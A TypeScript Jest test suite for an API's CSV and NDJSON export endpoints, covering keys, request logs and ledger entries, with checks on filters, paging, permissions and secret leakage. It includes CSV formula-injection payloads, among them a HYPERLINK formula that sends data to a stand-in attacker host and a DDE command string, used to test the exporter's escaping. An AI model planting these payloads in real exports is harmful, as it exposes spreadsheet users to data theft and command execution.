import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { buildSchema, isInputObjectType } from 'graphql';
import { WINDOW_ROWS } from '../src/db/windows';
import { ApiKey, KeySecret } from '../src/keys/key.entity';
import { LOOK_BACK_MS } from '../src/requests/request-log.feed';
import { RequestLog } from '../src/requests/request-log.entity';
import { MAX_EXPORTS_EACH } from '../src/rest/exports/places';
import { EXPORTED_TABLES } from '../src/rest/exports/tables.route';
import { Environment } from '../src/tenancy/environment';
import type { Workspace } from '../src/tenancy/workspace.entity';
import { LedgerEntry } from '../src/wallet/ledger-entry.entity';
import { errorOf } from './support/answers';
import { PEPPER, createTestApp, type TestApp } from './support/app';
import { ORIGIN, buildKey, buildProject, buildWorkspace } from './support/factories';
import { send } from './support/http';
import { answersOf, openLines } from './support/lines';
import { mutations } from './support/mutate';
import { callRow, insertBulk, usageRow } from './support/bulk';
import { until } from './support/until';

jest.setTimeout(90_000); // other test files take the processors too

type Line = Record<string, unknown>;

const READS = ['read.logs', 'read.keys', 'read.wallet'];
/** More than a connection and what is between hold. */
const MANY = 25_000;
const PAST_MS = Date.UTC(2025, 0, 1);

let app: TestApp;

beforeAll(async () => {
  app = await createTestApp();
});

afterAll(() => app.close());

const ask = (path: string, secret?: string, method = 'GET') => send(app.url, { method, path: `/v1/export/${path}`, headers: secret === undefined ? {} : { 'x-api-key': secret } });
const bodyOf = async (path: string, secret: string): Promise<string> => {
  const response = await fetch(`${app.url}/v1/export/${path}`, { headers: { 'x-api-key': secret } });
  const text = await response.text();
  expect([path, response.status, response.status === 200 ? '' : text]).toEqual([path, 200, '']);
  return text;
};
const linesOf = async (path: string, secret: string): Promise<Line[]> => (await bodyOf(path, secret)).split('\n').filter(Boolean).map((line) => JSON.parse(line) as Line);

/** Records of CSV as RFC 4180 has them, by a reader of its own: what is tested was written by another. */
function recordsOf(csv: string): string[][] {
  const records: string[][] = [[]];
  let rest = csv;
  while (rest !== '') {
    const [whole, quoted, plain, end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? [];
    if (whole === undefined) throw new Error(`This is no CSV: ${rest.slice(0, 100)}`);
    records.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') records.push([]);
    rest = rest.slice(whole.length);
  }
  return records.slice(0, -1);
}

function rowsOfCsv(csv: string): Record<string, string>[] {
  const [names = [], ...records] = recordsOf(csv);
  return records.map((record) => {
    expect(record).toHaveLength(names.length);
    return Object.fromEntries(names.map((name, index) => [name, record[index] as string]));
  });
}

/** A workspace where calls were billed and refused, with keys in every state, and a key that may read it all. */
async function buildTenant() {
  const workspace = await buildWorkspace(app);
  const { key: reader, secret } = await buildKey(app, { workspace, permissions: READS, budget: 5_000 });
  const calling = await buildKey(app, { workspace, budget: 2_500 });
  const { key, project } = calling;
  for (let turn = 0; turn < 3; turn += 1) await app.rest({ secret: calling.secret }); // the last is refused: 402
  await app.rest({ secret: calling.secret, body: { action: 'demo.fail' } });
  const disabled = await buildKey(app, { project, environment: Environment.TEST });
  await app.rest({ secret: disabled.secret });
  await app.services.keys.update(ORIGIN, { id: disabled.key.id, enabled: false, allowedIps: ['192.0.2.0/24', '2001:db8::1'] });
  const revoked = await buildKey(app, { project, permissions: ['demo.echo', 'demo.fail'] });
  await app.services.keys.revoke(ORIGIN, { id: revoked.key.id, reason: 'Left, "quoted"' });
  const rotated = await buildKey(app, { project, expiresAt: new Date(Date.now() + 3_600_000) });
  await app.services.keys.rotate(ORIGIN, { id: rotated.key.id, graceSeconds: 600 });
  const { mutate } = mutations(app);
  await mutate('adjustBalance', { projectId: project.id, delta: -5, reason: 'A correction', reference: 'ref-1' }, 'entry { id }');
  app.travel(LOOK_BACK_MS); // by now no call comes late any more
  return { workspace, reader, secret, key, project, secrets: [secret, calling.secret, disabled.secret, revoked.secret, rotated.secret] };
}

const KEY_FIELDS = 'id name environment hint permissions allowedIps status expiresAt revokedAt revokedReason rotatedAt previousSecretValidUntil lastUsedAt createdAt project { id } role { id }';
const LOG_FIELDS = 'id requestId environment service action outcome errorCode httpStatus chargedMicroCredits actionMs totalMs ip userAgent createdAt project { id } key { id } serviceAccount { id } consent { id }';
const ENTRY_FIELDS = 'id kind delta balanceAfter reference reason createdAt project { id } linkedEntry { id } requestLog { id }';

/** A node of the admin API as a line of an export: what it leads to is told by its id. */
const flat = (node: Line): Line =>
  Object.fromEntries(Object.entries(node).map(([name, value]) => (['project', 'key', 'serviceAccount', 'consent', 'role', 'linkedEntry', 'requestLog'].includes(name) ? [`${name}Id`, (value as { id: string } | null)?.id ?? null] : [name, value])));

/** What a connection lists, oldest first. */
async function listed(entrance: string, id: string, path: string[], fields: string, filter: Line = {}): Promise<Line[]> {
  const list = path.at(-1) as string;
  const type = { keys: 'ApiKeyFilter', requestLogs: 'RequestLogFilter', ledger: 'LedgerFilter' }[list];
  const inner = `${list}(first: 100, filter: $filter) { nodes { ${fields} } }`;
  const query = `query ($id: ID!, $filter: ${type}) { ${entrance}(id: $id) { ${path.length > 1 ? `${path[0]} { ${inner} }` : inner} } }`;
  const { data, errors } = await app.graphql(query, { id, filter });
  if (errors) throw new Error(JSON.stringify(errors));
  const found = path.reduce((node, name) => node[name], data[entrance]);
  return (found.nodes as Line[]).map(flat).reverse();
}

const parametersOf = (filter: Line): string =>
  Object.entries(filter).flatMap(([name, value]) => [value].flat().map((one) => `&${name}=${encodeURIComponent(String(one))}`)).join('');

describe('an export tells what the connection lists', () => {
  let tenant: Awaited<ReturnType<typeof buildTenant>>;
  beforeAll(async () => (tenant = await buildTenant()));

  const some = <T,>(list: T[]): T[] => {
    expect(list.length).toBeGreaterThan(0);
    return list;
  };
  const byName = (line: Line) => Object.fromEntries(Object.entries(line).sort(([a], [b]) => (a < b ? -1 : 1)));
  const expectSame = (lines: Line[], nodes: Line[]) => expect(lines.map(byName)).toEqual(nodes.map(byName));

  it.each([
    ['all', () => ({})],
    ['by status', () => ({ status: ['REVOKED', 'DISABLED'] })],
    ['by environment', () => ({ environment: 'TEST' })],
    ['by project', () => ({ projectId: [tenant.project.id] })],
    ['by projects', () => ({ projectId: [tenant.project.id, tenant.reader.projectId], status: ['ACTIVE'] })],
    ['by name and use', () => ({ name: 'KEY', used: true, lastUsedFrom: new Date(Date.now() - 3_600_000).toISOString() })],
    ['by hint', () => ({ hint: tenant.key.hint.slice(-4), used: true })],
    ['never used', () => ({ used: false })],
  ])('of keys: %s', async (_which, filterOf) => {
    const filter = filterOf();
    expectSame(await linesOf(`keys?format=ndjson${parametersOf(filter)}`, tenant.secret), some(await listed('workspace', tenant.workspace.id, ['keys'], KEY_FIELDS, filter)));
  });

  it.each([
    ['all', () => ({})],
    ['by outcome', () => ({ outcome: ['REFUSED', 'FAILED'] })],
    ['by key', () => ({ keyId: [tenant.key.id] })],
    ['by keys and code', () => ({ keyId: [tenant.key.id, tenant.reader.id], errorCode: ['PAYMENT_REQUIRED'] })],
    ['by project and action', () => ({ projectId: [tenant.project.id], action: ['demo.fail'] })],
    ['by environment', () => ({ environment: 'TEST' })],
    ['by address and charge', () => ({ ip: ['::ffff:127.0.0.1'], service: ['demo'], minChargedMicroCredits: 1, maxChargedMicroCredits: 1_000 })],
    ['by time', () => ({ from: new Date(Date.now() - 3_600_000).toISOString(), to: new Date(Date.now() + 3_600_000).toISOString() })],
  ])('of calls: %s', async (_which, filterOf) => {
    const filter = filterOf();
    expectSame(await linesOf(`request-logs?format=ndjson${parametersOf(filter)}`, tenant.secret), some(await listed('workspace', tenant.workspace.id, ['requestLogs'], LOG_FIELDS, filter)));
  });

  it('of one call, by its requestId, in whatever letters', async () => {
    const [log] = await listed('workspace', tenant.workspace.id, ['requestLogs'], LOG_FIELDS);
    expect((await linesOf(`request-logs?requestId=${String(log?.requestId).toUpperCase()}`, tenant.secret)).map(({ id }) => id)).toEqual([log?.id]);
  });

  it('of the ledger: the wallet, a budget, and budgets one after another', async () => {
    const walletOf = () => listed('workspace', tenant.workspace.id, ['wallet', 'ledger'], ENTRY_FIELDS);
    const budgetOf = (id: string, filter = {}) => listed('project', id, ['ledger'], ENTRY_FIELDS, filter);
    const [one, other] = [tenant.project.id, tenant.reader.projectId];
    expectSame(await linesOf('ledger', tenant.secret), some(await walletOf()));
    expectSame(await linesOf(`ledger?projectId=${one}`, tenant.secret), some(await budgetOf(one)));
    expectSame(await linesOf(`ledger?projectId=${other}&projectId=${one}`, tenant.secret), [...(await budgetOf(other)), ...(await budgetOf(one))]);
    const filter = { kind: ['USAGE', 'ADJUSTMENT'], minDelta: -1_000, maxDelta: -5 };
    const lines = await linesOf(`ledger?projectId=${one}${parametersOf(filter)}`, tenant.secret);
    expectSame(lines, some(await budgetOf(one, filter)));
    expect(lines.map(({ delta }) => delta)).toContain(-5);
  });

  it('as CSV too, each value as it was', async () => {
    for (const path of ['keys', 'request-logs', `ledger?projectId=${tenant.project.id}`]) {
      const sign = path.includes('?') ? '&' : '?';
      const lines = some(await linesOf(path, tenant.secret));
      const texts = (value: unknown) => (value === null ? '' : Array.isArray(value) ? value.join(' ') : typeof value === 'string' ? value : JSON.stringify(value));
      expect(rowsOfCsv(await bodyOf(`${path}${sign}format=csv`, tenant.secret))).toEqual(lines.map((line) => Object.fromEntries(Object.entries(line).map(([name, value]) => [name, texts(value)]))));
    }
  });

  it('and numbers as integers of JSON', async () => {
    expect(await bodyOf(`ledger?projectId=${tenant.project.id}&kind=ADJUSTMENT`, tenant.secret)).toContain('"delta":-5,');
  });

  it('with the filters of the connections, each by its name', () => {
    const schema = buildSchema(readFileSync('schema.graphql', 'utf8'));
    const filters = { ledger: 'LedgerFilter', 'request-logs': 'RequestLogFilter', keys: 'ApiKeyFilter' };
    for (const { name, query } of EXPORTED_TABLES) {
      const filter = schema.getType(filters[name as keyof typeof filters]);
      const names = isInputObjectType(filter) ? Object.keys(filter.getFields()) : [];
      expect([name, Object.keys(query.shape)]).toEqual([name, expect.arrayContaining(names)]);
    }
  });

  it('and tells no secret and no digest', async () => {
    const digests = await app.database.reader.find(KeySecret, { select: { digest: true } });
    let all = '';
    for (const { name } of EXPORTED_TABLES) for (const format of ['csv', 'ndjson']) all += await bodyOf(`${name}?format=${format}`, tenant.secret);
    expect(digests.length).toBeGreaterThan(5);
    for (const { digest } of digests) expect(all).not.toContain(digest);
    for (const secret of tenant.secrets) expect(all).not.toContain(secret);
    expect(all).toContain(tenant.key.hint);
  });
});

describe('an export', () => {
  it('is told what it is: its type, its file’s name, and to HEAD the same without a body', async () => {
    const { secret } = await buildKey(app, { permissions: READS });
    for (const { name } of EXPORTED_TABLES) {
      for (const [format, type] of [['csv', 'text/csv; charset=utf-8; header=present'], ['ndjson', 'application/x-ndjson; charset=utf-8']]) {
        for (const method of ['GET', 'HEAD']) {
          const { status, headers, body } = await ask(`${name}?format=${format}`, secret, method);
          expect([status, headers.get('content-type'), headers.get('cache-control')]).toEqual([200, type, 'no-store']);
          expect(headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="${name}-\\d{8}T\\d{6}Z\\.${format}"$`));
          if (method === 'HEAD') expect(body).toBeUndefined();
        }
      }
    }
  });

  it('goes on after any line, by its id, though many rows are of one millisecond, and misses and repeats none', async () => {
    const { key, secret, project } = await buildKey(app, { permissions: READS });
    const of = { workspaceId: key.workspaceId, projectId: project.id, keyId: key.id };
    const count = 3 * WINDOW_ROWS + 50;
    await insertBulk(app.database, 'request_logs', count, (index) => ({ ...callRow(of, PAST_MS, index), created_at: PAST_MS + Math.floor(index / 130) }));
    const all = await linesOf('request-logs', secret);
    expect(all).toHaveLength(count);
    expect(new Set(all.map(({ id }) => id)).size).toBe(count);
    for (const place of [0, WINDOW_ROWS - 1, WINDOW_ROWS, 2 * WINDOW_ROWS + 17, count - 1]) {
      expect(await linesOf(`request-logs?after=${String(all[place]?.id)}`, secret)).toEqual(all.slice(place + 1));
    }
    const budgets = await buildProject(app, { workspace: { id: key.workspaceId } as Workspace, budget: 0 });
    await insertBulk(app.database, 'ledger_entries', 250, (index) => usageRow(budgets.id, 1e9, PAST_MS, index));
    const path = `ledger?projectId=${budgets.id}&projectId=${project.id}`;
    const entries = await linesOf(path, secret);
    for (const place of [0, 120, 249, 250]) expect(await linesOf(`${path}&after=${String(entries[place]?.id)}`, secret)).toEqual(entries.slice(place + 1));
  });

  it('has what a filter lets through though most of the table is not it, and nothing where nothing is', async () => {
    const { key, secret, project } = await buildKey(app, { permissions: READS });
    await insertBulk(app.database, 'request_logs', 5_000, (index) => callRow({ workspaceId: key.workspaceId, projectId: project.id, keyId: key.id }, PAST_MS, index));
    expect((await linesOf('request-logs?outcome=REFUSED', secret)).map(({ createdAt }) => createdAt)).toEqual([999, 1_999, 2_999, 3_999, 4_999].map((index) => new Date(PAST_MS + index * 10).toISOString()));
    expect(await linesOf('request-logs?errorCode=INTERNAL', secret)).toEqual([]);
    const to = new Date(PAST_MS + 30).toISOString();
    expect(await linesOf(`request-logs?to=${to}`, secret)).toHaveLength(3);
    expect(rowsOfCsv(await bodyOf('request-logs?errorCode=INTERNAL&format=csv', secret))).toEqual([]);
  });

  it('has no statement that looks at more rows than a window has, however few are wanted', async () => {
    const { key, secret, project } = await buildKey(app, { permissions: READS });
    await insertBulk(app.database, 'request_logs', 3_000, (index) => callRow({ workspaceId: key.workspaceId, projectId: project.id, keyId: key.id }, PAST_MS, index));
    const { reader } = app.database;
    const spy = jest.spyOn(reader.connection.driver, 'escapeQueryWithParameters');
    await linesOf(`request-logs?errorCode=INTERNAL&from=${new Date(PAST_MS).toISOString()}&to=${new Date().toISOString()}`, secret);
    const statements = spy.mock.calls.map(([sql]) => sql).filter((sql) => sql.includes('request_logs'));
    spy.mockRestore();
    expect(statements.length).toBeGreaterThanOrEqual(2 * (3_000 / WINDOW_ROWS));
    for (const sql of statements) {
      const bounds = sql.replace(/\([^()]* OR [^()]*\)/g, '').match(/created_at. [<>]=?/g) ?? [];
      expect(bounds.map((bound) => bound.replace(/[^<>]/g, '')).sort()).toEqual(['<', '>']); // a second one might be the one that the database goes by
    }
    for (const sql of statements) expect(sql).toMatch(new RegExp(`LIMIT (1 OFFSET ${WINDOW_ROWS - 1}|${WINDOW_ROWS})$`));
  });

  it('tells none that is newer than its beginning', async () => {
    const { key, secret, project } = await buildKey(app, { permissions: READS });
    const tomorrowMs = Date.now() + 86_400_000;
    await insertBulk(app.database, 'request_logs', 3, (index) => callRow({ workspaceId: key.workspaceId, projectId: project.id, keyId: key.id }, index === 2 ? tomorrowMs : PAST_MS, index));
    expect(await linesOf('request-logs', secret)).toHaveLength(2);
  });

  it('tells no call while one may still come before it: what is committed late is in the next one, as all else is, once', async () => {
    const { key, secret, project } = await buildKey(app, { permissions: READS });
    const of = { workspaceId: key.workspaceId, projectId: project.id, keyId: key.id };
    const nowMs = (await app.database.now()).getTime();
    const log = (agoMs: number, index: number) => insertBulk(app.database, 'request_logs', 1, () => callRow(of, nowMs - agoMs, index));
    await log(60_000, 0);
    await log(30_000, 2);
    const first = await linesOf('request-logs', secret);
    await log(30_001, 1); // its tick began before that of the one before, and committed after it
    app.travel(LOOK_BACK_MS);
    const next = await linesOf(`request-logs?after=${first.at(-1)?.id}`, secret);
    expect([first.length, next.length]).toEqual([1, 2]);
    expect(await linesOf(`request-logs?after=${next.at(-1)?.id}`, secret)).toEqual([]);
  });

  it('tells which key called and which call was billed to those alone who may see that', async () => {
    const { key, project, workspace, secret } = await buildTenant();
    const secretWith = async (...permissions: string[]) => (await buildKey(app, { workspace, permissions })).secret;
    const keyIds = async (reader: string) => new Set((await linesOf(`request-logs?keyId=${key.id}`, reader)).map(({ keyId }) => keyId));
    expect([await keyIds(secret), await keyIds(await secretWith('read.logs'))]).toEqual([new Set([key.id]), new Set([null])]);
    const logIds = async (reader: string) => (await linesOf(`ledger?kind=USAGE&projectId=${project.id}`, reader)).map(({ requestLogId }) => requestLogId);
    expect([await logIds(secret), await logIds(await secretWith('read.wallet'))]).toEqual([[expect.stringMatching(/^log_/), expect.stringMatching(/^log_/)], [null, null]]);
  });
});

describe('text that a spreadsheet would take for a formula', () => {
  const PLAIN = ['Key', 'a-b', 'a=b', '1+1', 'x@example.com', 'He said "no"', 'one, two', "O'Brien", 'Zoë 木', 'two\nlines', '5; 6'];
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '+cmd|\' /C calc\'!A0',
    '-2+3',
    '-5',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\tplain',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    'x;=1+1',
    'x; +1',
    'x\n@A1',
    'x\r\n-1',
    '="quoted"',
  ];

  it('is harmless in CSV, in every column of text, and as it stands in NDJSON', async () => {
    const { key, secret, project } = await buildKey(app, { permissions: READS });
    const { workspaceId } = key;
    const of = { workspaceId, projectId: project.id, keyId: key.id };
    const texts = [...PLAIN, ...FORMULAS];
    await insertBulk(app.database, 'request_logs', texts.length, (index) => ({ ...callRow(of, PAST_MS, index), action: texts[index] as string, user_agent: texts[index] as string, error_code: texts[index] as string, outcome: 'FAILED' }));
    const ledger = await buildProject(app, { workspace: { id: workspaceId } as Workspace, budget: 0 });
    await insertBulk(app.database, 'ledger_entries', texts.length, (index) => ({ ...usageRow(ledger.id, 1e9, PAST_MS, index), reason: texts[index] as string, reference: texts[index] as string }));
    const keys = await buildProject(app, { workspace: { id: workspaceId } as Workspace, budget: 0 });
    await insertBulk(app.database, 'api_keys', texts.length, (index) => ({
      ...{ id: `key_${keys.id.slice(4)}${String(index).padStart(3, '0')}`, workspace_id: workspaceId, project_id: keys.id, name: texts[index] as string, environment: 'LIVE', hint: 'h' },
      ...{ permissions: JSON.stringify([texts[index]]), role_id: null, allowed_ips: '[]', enabled: 1, expires_at: null, revoked_at: 1, revoked_reason: texts[index] as string, rotated_at: null, created_at: PAST_MS + index },
    }));

    for (const [path, columns] of [
      ['request-logs?outcome=FAILED', ['action', 'userAgent', 'errorCode']],
      [`ledger?projectId=${ledger.id}`, ['reason', 'reference']],
      [`keys?projectId=${keys.id}`, ['name', 'revokedReason', 'permissions']],
    ] as const) {
      const rows = rowsOfCsv(await bodyOf(`${path}&format=csv`, secret));
      const lines = await linesOf(path, secret);
      for (const column of columns) {
        expect(lines.map((line) => [line[column]].flat()[0])).toEqual(texts);
        expect(rows.slice(0, PLAIN.length).map((row) => row[column])).toEqual(PLAIN);
        const written = rows.slice(PLAIN.length).map((row) => row[column] as string);
        for (const [index, text] of written.entries()) {
          expect(text.replaceAll("'", '')).toBe(FORMULAS[index]?.replaceAll("'", ''));
          for (const cell of text.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
          expect(text).not.toMatch(/^[\t\r\n]/);
        }
      }
    }
  });

  it('is no number: these stay as they are', async () => {
    const { secret, project } = await buildKey(app, { permissions: READS });
    const { mutate } = mutations(app);
    await mutate('adjustBalance', { projectId: project.id, delta: -5, reason: '-5' }, 'entry { id }');
    const [row] = rowsOfCsv(await bodyOf(`ledger?kind=ADJUSTMENT&format=csv&projectId=${project.id}`, secret));
    expect([row?.delta, row?.reason]).toEqual(['-5', "'-5"]);
  });
});

describe('a long export', () => {
  let long: { secret: string; key: ApiKey; path: string };
  beforeAll(async () => {
    const { key, secret, project } = await buildKey(app, { permissions: READS });
    await insertBulk(app.database, 'request_logs', MANY, (index) => ({ ...callRow({ workspaceId: key.workspaceId, projectId: project.id, keyId: key.id }, PAST_MS, index), user_agent: 'x'.repeat(250) }));
    long = { key, secret, path: '/v1/export/request-logs' };
  }, 90_000);

  const open = (secret = long.secret) => openLines(app.url, long.path, secret);
  const readerIn = async (values: { permissions?: string[]; roleId?: string }) => buildKey(app, { workspace: { id: long.key.workspaceId } as Workspace, budget: 0, ...values });

  it('breaks off, and so that nobody takes it for whole, when its key is revoked, when it loses the permission or one that some values take, and when its role is gone', async () => {
    const { keys } = app.services;
    const ends: ((key: ApiKey) => Promise<unknown>)[] = [
      ({ id }) => keys.revoke(ORIGIN, { id }),
      ({ id }) => keys.update(ORIGIN, { id, permissions: ['read.keys'] }),
      ({ id }) => keys.update(ORIGIN, { id, permissions: ['read.logs'] }),
      ({ id }) => keys.update(ORIGIN, { id, roleId: null }),
    ];
    const readers = [await readerIn({ permissions: READS }), await readerIn({ permissions: READS }), await readerIn({ permissions: READS }), await readerIn({ permissions: [], roleId: 'rol_viewer' })];
    const answers = answersOf(app.server.server);
    const streams = await Promise.all(readers.map(({ secret }) => open(secret)));
    for (const stream of streams) stream.pause();
    await Promise.all(ends.map((end, index) => end(readers[index]?.key as ApiKey)));
    await until(() => answers.every(({ destroyed }) => destroyed), 'the ends of their connections');
    expect(answers).toHaveLength(readers.length);
    for (const stream of streams) stream.resume();
    expect(await Promise.all(streams.map(({ ended }) => ended))).toEqual([false, false, false, false]);
    for (const { lines } of streams) expect(lines.length).toBeLessThan(MANY);
  });

  it('keeps its place while its reader stands still, and no longer than its reader is there', async () => {
    const streams = await Promise.all(Array.from({ length: MAX_EXPORTS_EACH }, () => open()));
    for (const stream of streams) stream.pause();
    for (const path of ['request-logs', 'keys', 'ledger']) expect(await ask(path, long.secret)).toMatchObject({ status: 503, body: { error: { message: expect.stringContaining('of yours') } } });
    expect((await ask('keys', long.secret, 'HEAD')).status).toBe(200);
    for (const stream of streams) stream.hangUp();
    await until(async () => (await ask('keys', long.secret)).status === 200, 'a place');
  });

  it('reads no further than its reader takes', async () => {
    const spy = jest.spyOn(app.database.reader.connection.driver, 'escapeQueryWithParameters');
    const stream = await open();
    stream.pause();
    let before = -1;
    await until(() => {
      const isStill = spy.mock.calls.length === before;
      before = spy.mock.calls.length;
      return isStill;
    }, 'a stand-still');
    expect(spy.mock.calls.filter(([sql]) => sql.includes('request_logs')).length).toBeLessThan(MANY / WINDOW_ROWS);
    stream.hangUp();
    spy.mockRestore();
  });

  it('costs no more memory the longer it is: what is alive grows by much less than what is sent', async () => {
    const env = { ...process.env, DATABASE_URL: app.databaseUrl, ROOT_KEY: app.rootKey, KEY_PEPPER: PEPPER };
    const { stdout } = await promisify(execFile)(process.execPath, ['--expose-gc', join(__dirname, 'support/export-memory.js'), long.secret, `${long.path}?format=csv`], { env });
    const { bytes, grownBytes } = JSON.parse(stdout) as { bytes: number; grownBytes: number };
    expect(bytes).toBeGreaterThan(300 * MANY);
    expect(grownBytes).toBeLessThan(bytes / 2);
  });

  it('lets calls through meanwhile, and every line comes', async () => {
    const { secret } = await buildKey(app, { budget: 1e9 });
    const call = async () => {
      const began = performance.now();
      expect((await app.rest({ secret })).status).toBe(200);
      return performance.now() - began;
    };
    const medianOf = (times: number[]) => times.sort((a, b) => a - b)[Math.floor(times.length / 2)] as number;
    const alone: number[] = [];
    for (let turn = 0; turn < 50; turn += 1) alone.push(await call());
    const stream = await open();
    const during: number[] = [];
    const over = new AbortController();
    void stream.ended.then(() => over.abort());
    while (!over.signal.aborted && during.length < 2_000) during.push(await call());
    expect(await stream.ended).toBe(true);
    expect(stream.lines).toHaveLength(MANY);
    expect(during.length).toBeGreaterThan(20);
    expect(medianOf(during)).toBeLessThan(10 * medianOf(alone) + 50);
  });

  it('breaks off when the process stops, and keeps no stop waiting', async () => {
    const node = TEST_DATABASE === 'mysql' ? await createTestApp({ databaseUrl: app.databaseUrl }) : app;
    const stream = await openLines(node.url, long.path, long.secret);
    stream.pause();
    const began = performance.now();
    await node.close();
    expect(performance.now() - began).toBeLessThan(10_000);
    stream.resume();
    expect(await stream.ended).toBe(false);
    if (node === app) app = await createTestApp({ databaseUrl: app.databaseUrl });
  });
});

describe('is refused', () => {
  it('without a credential, with a wrong one, and with one that lacks the permission', async () => {
    for (const { name, permission } of EXPORTED_TABLES) {
      const { secret } = await buildKey(app, { permissions: READS.filter((other) => other !== permission) });
      expect(errorOf(await ask(name))).toMatchObject({ http: 401, code: 'MISSING_API_KEY', challenge: 'Bearer realm="tollgate"' });
      expect(errorOf(await ask(name, 'nonsense'))).toMatchObject({ http: 401, code: 'INVALID_API_KEY' });
      expect(errorOf(await ask(name, secret))).toMatchObject({ http: 403, code: 'FORBIDDEN', details: { required_permission: permission } });
    }
  });

  it('for a foreign workspace as for one that never was, and foreign ids of a filter are no ids', async () => {
    const { secret } = await buildKey(app, { permissions: READS });
    const foreign = await buildTenant();
    for (const { name } of EXPORTED_TABLES) {
      const answers = await Promise.all([foreign.workspace.id, 'ws_000000000neverWasHere00'].map(async (id) => errorOf(await ask(`${name}?workspaceId=${id}`, secret))));
      expect(answers[0]).toEqual(answers[1]);
      expect(answers[0]).toMatchObject({ http: 404, code: 'NOT_FOUND', details: {} });
    }
    for (const query of [`keys?projectId=${foreign.project.id}`, `request-logs?projectId=${foreign.project.id}`, `request-logs?keyId=${foreign.key.id}`, `request-logs?keyId=${foreign.key.id}&keyId=${foreign.reader.id}`]) {
      expect(await linesOf(query, secret)).toEqual([]);
    }
    const ledgers = await Promise.all([foreign.project.id, 'prj_000000000neverWasHere0'].map(async (id) => errorOf(await ask(`ledger?projectId=${id}`, secret))));
    expect(ledgers[0]).toEqual(ledgers[1]);
    expect(ledgers[0]).toMatchObject({ http: 404, code: 'NOT_FOUND' });
    const log = await app.database.reader.findOneByOrFail(RequestLog, { workspaceId: foreign.workspace.id });
    const entry = await app.database.reader.findOneByOrFail(LedgerEntry, { accountId: foreign.project.id });
    for (const [name, id] of [['request-logs', log.id], ['keys', foreign.key.id], ['ledger', entry.id]] as const) {
      const ghost = `${id.slice(0, -3)}000`;
      const [real, never] = await Promise.all([id, ghost].map(async (after) => errorOf(await ask(`${name}?after=${after}`, secret))));
      expect(real).toEqual(never);
      expect(real).toMatchObject({ http: 400, details: { issues: [{ path: ['after'] }] } });
    }
  });

  it('to the operator without a workspace, who else reads any', async () => {
    const { workspace, secret } = await buildTenant();
    for (const { name } of EXPORTED_TABLES) {
      expect(errorOf(await ask(name, app.rootKey))).toMatchObject({ http: 400, details: { issues: [{ path: ['workspaceId'], message: 'is required of the operator' }] } });
      expect(await linesOf(`${name}?workspaceId=${workspace.id}`, app.rootKey)).toEqual(await linesOf(name, secret));
    }
  });

  it.each([
    ['ledger?format=xml', ['format']],
    ['ledger?format=csv&format=ndjson', ['format']],
    ['keys?status=DEAD&environment=PROD&page=2', ['environment', 'page', 'status.0']],
    ['keys?sort=name&used=maybe&hint=&lastUsedTo=now', ['hint', 'lastUsedTo', 'sort', 'used']],
    ['ledger?minDelta=1.5&maxDelta=90071992547409920', ['maxDelta', 'minDelta']],
    ['request-logs?from=yesterday&to=2026-02-30T00:00:00Z', ['from', 'to']],
    ['request-logs?from=2026-01-01T00:00:00', ['from']],
    ['request-logs?outcome=SUCCEEDED&outcome=ODD&keyId=a%20b', ['keyId.0', 'outcome.1']],
    ['request-logs?after=nonsense', ['after']],
    ['ledger?after=led_prj_1_1', ['after']],
    ['ledger?kind=', ['kind.0']],
    [`request-logs?${'action=a&'.repeat(1_001)}`, ['action']],
    ['keys?workspaceId=a%20b', ['workspaceId']],
  ])('for what cannot be, saying where: %#', async (query, paths) => {
    const { secret } = await buildKey(app, { permissions: READS });
    const { http, code, details } = errorOf(await ask(query, secret));
    expect([http, code]).toEqual([400, 'INVALID_REQUEST']);
    expect((details.issues as { path: (string | number)[] }[]).map(({ path }) => path.join('.')).sort()).toEqual(paths);
  });

  it('by another method: 405, and Allow says which', async () => {
    expect(errorOf(await ask('keys', app.rootKey, 'POST'))).toMatchObject({ http: 405, code: 'METHOD_NOT_ALLOWED', allow: 'GET, HEAD' });
  });
});
